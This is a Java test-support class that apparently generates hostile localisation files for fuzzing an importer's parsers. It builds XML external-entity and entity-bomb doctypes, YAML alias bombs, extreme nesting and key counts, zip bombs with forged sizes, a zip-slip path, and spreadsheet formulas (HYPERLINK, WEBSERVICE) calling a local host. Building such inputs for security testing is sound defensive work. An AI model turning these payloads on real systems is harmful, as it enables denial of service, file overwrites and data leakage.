package dev.parlance.formats;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.compress.archivers.zip.ZipFile;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;

/** Files that were made to harm, of each kind and format. */
final class HostileFiles {
    private static final int KEYS = 200_000;
    private static final int LEVELS = 100_000;
    private static final List<String> XML = List.of("xliff-1.2", "xliff", "android", "apple-stringsdict");
    private static final String WORKBOOK_SHEET = "xl/worksheets/sheet1.xml";

    private HostileFiles() {
    }

    /** A file with the kind of its attack. */
    record Hostile(String kind, ImportFormat format, SourceFile file) {
    }

    static List<Hostile> all() {
        var files = new ArrayList<Hostile>();
        for (var seed : FormatSeed.all()) {
            var name = seed.format().name();
            if (XML.contains(name)) {
                add(files, "external entity", seed, withDoctype(seed, "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:9/x\">]>"));
                add(files, "entity bomb", seed, withDoctype(seed, entityBomb()));
            }
            if (name.equals("xlsx")) {
                addArchives(files, seed);
            } else {
                var invalid = Arrays.copyOf(repeat(seed.bytes(), 1024 * 1024), 1024 * 1024);
                invalid[invalid.length - 1] = (byte) 0xC3;
                files.add(new Hostile("wrong encoding", seed.format(), new SourceFile(seed.path(), invalid)));
                deep(name).ifPresent(it -> add(files, "deep nesting", seed, it));
                keys(name).ifPresent(it -> add(files, "200,000 keys", seed, it));
            }
            if (seed.path().endsWith(".yml") || seed.path().endsWith(".yaml")) {
                add(files, "alias bomb", seed, aliasBomb());
            } else if (name.equals("csv")) {
                add(files, "formulas", seed, "code,message\n" + IntStream.range(0, 1000)
                        .mapToObj(it -> "E" + (1000 + it) + ",\"=HYPERLINK(\"\"http://127.0.0.1:9/\"\"&A1)\"\n")
                        .collect(Collectors.joining()));
            }
        }
        return files;
    }

    private static void add(List<Hostile> files, String kind, FormatSeed seed, String content) {
        files.add(new Hostile(kind, seed.format(), new SourceFile(seed.path(), content.getBytes(StandardCharsets.UTF_8))));
    }

    private static byte[] repeat(byte[] bytes, int size) {
        var all = new ByteArrayOutputStream();
        while (all.size() < size) {
            all.writeBytes(bytes);
        }
        return all.toByteArray();
    }

    private static String withDoctype(FormatSeed seed, String doctype) {
        var text = new String(seed.bytes(), StandardCharsets.UTF_8).replaceAll("<[!?][^>]*>", "");
        return doctype + text.replaceFirst(">([A-Za-z1 ])", ">&x;$1");
    }

    private static String entityBomb() {
        return IntStream.range(0, 30).mapToObj(it -> "<!ENTITY " + (it == 29 ? "x" : "x" + it) + " \""
                + (it == 0 ? "lol" : ("&x" + (it - 1) + ";").repeat(10)) + "\">").collect(Collectors.joining("", "<!DOCTYPE r [", "]>"));
    }

    private static String aliasBomb() {
        var lines = IntStream.range(0, 30).mapToObj(it -> "  a" + it + ": &a" + it + " ["
                + (it == 0 ? "lol" : String.join(",", Collections.nCopies(10, "*a" + (it - 1)))) + "]");
        return lines.collect(Collectors.joining("\n", "de:\n", "\n"));
    }

    private static Optional<String> deep(String format) {
        return Optional.ofNullable(switch (format) {
            case "json", "i18next", "formatjs", "arb", "webextension", "go-i18n", "json-map" -> "{\"a\":".repeat(LEVELS);
            case "apple-xcstrings" -> "{\"strings\":{\"k\":" + "{\"a\":".repeat(LEVELS);
            case "go-i18n-toml", "toml-map" -> "a=" + "[".repeat(LEVELS);
            case "yaml-rails", "yaml-symfony", "yaml-map" -> "de: " + "[".repeat(LEVELS);
            case "android" -> "<resources><string name=\"a\">" + "<b>".repeat(LEVELS);
            case "xliff-1.2" -> "<xliff version=\"1.2\"><file><body>" + "<group>".repeat(LEVELS);
            case "xliff" -> "<xliff xmlns=\"urn:oasis:names:tc:xliff:document:2.0\" version=\"2.0\"><file id=\"f\">"
                    + "<group>".repeat(LEVELS);
            case "apple-stringsdict" -> "<plist><dict>" + "<key>k</key><dict>".repeat(LEVELS);
            case "html" -> "<table><tr><td>E100<td>" + "<div>".repeat(LEVELS) + "x<tr><td>E200<td>y</table>";
            case "markdown" -> "> ".repeat(LEVELS) + "x\n";
            case "po" -> "msgid \"\"\nmsgstr \"Plural-Forms: nplurals=2; plural=" + "(".repeat(LEVELS) + ";\"\n";
            default -> null;
        });
    }

    private static Optional<String> keys(String format) {
        return Optional.ofNullable(switch (format) {
            case "properties" -> lines("", it -> "k" + it + "=v", "\n", "");
            case "json", "i18next", "formatjs", "arb", "go-i18n" -> lines("{", it -> "\"k" + it + "\":\"v\"", ",\n", "}");
            case "json-map" -> lines("{", it -> "\"k" + it + "\":{\"message\":\"v\"}", ",\n", "}");
            case "webextension" -> lines("{", it -> "\"k" + it + "\":{\"message\":\"v\"}", ",\n", "}");
            case "go-i18n-toml", "toml-map" -> lines("", it -> "k" + it + "='v'", "\n", "\n");
            case "po" -> lines("", it -> "msgid \"k" + it + "\"\nmsgstr \"v\"\n", "\n", "");
            case "xliff-1.2" -> lines("<xliff version=\"1.2\"><file source-language=\"en\" target-language=\"de\"><body>",
                    it -> "<trans-unit id=\"k" + it + "\"><source>s</source><target>t</target></trans-unit>", "\n",
                    "</body></file></xliff>");
            case "xliff" -> lines("<xliff xmlns=\"urn:oasis:names:tc:xliff:document:2.0\" version=\"2.0\" srcLang=\"en\" trgLang=\"de\">"
                    + "<file id=\"f\">",
                    it -> "<unit id=\"k" + it + "\"><segment><source>s</source><target>t</target></segment></unit>", "\n",
                    "</file></xliff>");
            case "android" -> lines("<resources>", it -> "<string name=\"k" + it + "\">v</string>", "\n", "</resources>");
            case "apple-strings" -> lines("", it -> "\"k" + it + "\" = \"v\";", "\n", "");
            case "apple-stringsdict" -> lines("<plist><dict>", it -> "<key>k" + it
                    + "</key><dict><key>NSStringLocalizedFormatKey</key><string>v</string></dict>", "\n",
                    "</dict></plist>");
            case "apple-xcstrings" -> lines("{\"sourceLanguage\":\"en\",\"strings\":{", it -> "\"k" + it + "\":{}", ",\n", "}}");
            case "yaml-rails" -> lines("de:\n", it -> "  k" + it + ": v", "\n", "");
            case "yaml-symfony" -> lines("", it -> "k" + it + ": v", "\n", "");
            case "yaml-map" -> lines("", it -> "k" + it + ": {message: v}", "\n", "");
            case "csv" -> lines("code,message\n", it -> "E" + it + ",v", "\n", "");
            case "tsv" -> lines("code\tmessage\n", it -> "E" + it + "\tv", "\n", "");
            case "html" -> lines("<table><tr><th>code<th>message", it -> "<tr><td>E" + it + "<td>v", "\n", "</table>");
            case "markdown" -> lines("| code | message |\n|---|---|\n", it -> "| E" + it + " | v |", "\n", "");
            case "error-code-text" -> lines("", it -> (100_000 + it) + "404v", "\n", "");
            case "errmsg" -> lines("languages english=eng latin1;\nstart-error-number 1\n", it -> "ER_K" + it + "\n  eng \"v\"", "\n",
                    "\n");
            default -> null;
        });
    }

    private static String lines(String start, IntFunction<String> line, String separator, String end) {
        return IntStream.range(0, KEYS).mapToObj(line).collect(Collectors.joining(separator, start, end));
    }

    private static void addArchives(List<Hostile> files, FormatSeed seed) {
        var sheet = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";
        files.add(archive("zip bomb", seed, "xl/bomb.xml", new byte[200 * 1024 * 1024]));
        var lying = archive("zip bomb", seed, "xl/bomb.xml", new byte[120 * 1024 * 1024]);
        files.add(new Hostile("zip bomb with a wrong size", seed.format(), new SourceFile(seed.path(), withSize(lying.file().bytes(),
                1000))));
        files.add(archive("zip slip", seed, "../../x.xml", new byte[1]));
        files.add(archive("entity bomb", seed, WORKBOOK_SHEET, (entityBomb() + sheet).getBytes(StandardCharsets.UTF_8)));
        files.add(archive("entity bomb in UTF-16", seed, WORKBOOK_SHEET, (entityBomb() + sheet).getBytes(StandardCharsets.UTF_16)));
        files.add(archive("deep nesting", seed, WORKBOOK_SHEET, (sheet + "<row>".repeat(LEVELS)).getBytes(StandardCharsets.UTF_8)));
        files.add(archive("200,000 keys", seed, WORKBOOK_SHEET, lines(sheet, it -> "<row r=\"" + (it + 1) + "\"><c r=\"A" + (it + 1)
                + "\" t=\"inlineStr\"><is><t>E" + it
                + "</t></is></c><c r=\"B" + (it + 1) + "\" t=\"inlineStr\"><is><t>v</t></is></c></row>", "",
                "</sheetData></worksheet>").getBytes(StandardCharsets.UTF_8)));
        files.add(archive("formulas", seed, WORKBOOK_SHEET, (sheet
                + "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>WEBSERVICE(\"http://127.0.0.1:9/\")</f><v>code</v></c>"
                + "<c r=\"B1\" t=\"str\"><v>message</v></c></row></sheetData></worksheet>").getBytes(StandardCharsets.UTF_8)));
    }

    /** Replaces or adds a part of the valid workbook. */
    private static Hostile archive(String kind, FormatSeed seed, String part, byte[] content) {
        try (var bytes = new ByteArrayOutputStream(); var zip = new ZipOutputStream(bytes);
                var original = ZipFile.builder().setSeekableByteChannel(new SeekableInMemoryByteChannel(seed.bytes())).get()) {
            for (var entry : Collections.list(original.getEntries())) {
                if (!entry.getName().equals(part)) {
                    zip.putNextEntry(new ZipEntry(entry.getName()));
                    original.getInputStream(entry).transferTo(zip);
                }
            }
            zip.putNextEntry(new ZipEntry(part));
            zip.write(content);
            zip.finish();
            return new Hostile(kind, seed.format(), new SourceFile(seed.path(), bytes.toByteArray()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Changes the uncompressed size of the last entry in the central directory. */
    private static byte[] withSize(byte[] zip, int size) {
        var buffer = ByteBuffer.wrap(zip.clone()).order(ByteOrder.LITTLE_ENDIAN);
        int last = 0;
        for (int i = 0; i < zip.length - 4; i++) {
            last = buffer.getInt(i) == 0x02014b50 ? i : last;
        }
        return buffer.putInt(last + 24, size).array();
    }
}
